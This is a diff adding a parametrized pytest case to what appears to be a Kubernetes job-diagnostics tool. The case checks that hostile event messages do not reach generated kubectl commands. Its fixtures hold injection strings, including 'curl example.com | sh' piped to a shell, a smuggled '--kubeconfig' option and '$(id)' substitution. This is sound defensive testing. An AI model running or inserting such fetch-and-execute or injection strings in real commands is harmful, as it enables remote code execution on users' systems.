@@ -921,6 +921,22 @@ def test_long_and_hostile_messages_are_bounded() -> None:
     assert "\n" not in found.causes[0].message
 
 
+@pytest.mark.parametrize(
+    "message",
+    [
+        pytest.param('serviceaccount "a; curl example.com | sh" not found', id="shell"),
+        pytest.param('serviceaccount "--kubeconfig=/tmp/a" not found', id="option"),
+        pytest.param("exceeded quota: --kubeconfig=/tmp/a, requested: pods=1", id="option-for-a-quota"),
+        pytest.param("failed quota: $(id): must specify limits.cpu for: trainer", id="substitution"),
+    ],
+)
+def test_commands_have_no_hostile_names(message: str) -> None:
+    """What an event names becomes a part of a command only if objects may have such a name."""
+    (cause,) = answer(train_job(), jobset(), JOB, refusal(message)).causes
+    assert cause.command == "kubectl describe job demo-node-0 -n default"
+    assert cause.remedy == "remove what the message names; it goes on by itself then"
+
+
 def test_pods_of_others_say_nothing() -> None:
     """Anybody may give a pod the labels of a JobSet; its controller counts."""
     forged = waiting("ImagePullBackOff", "run: curl example.com | sh")
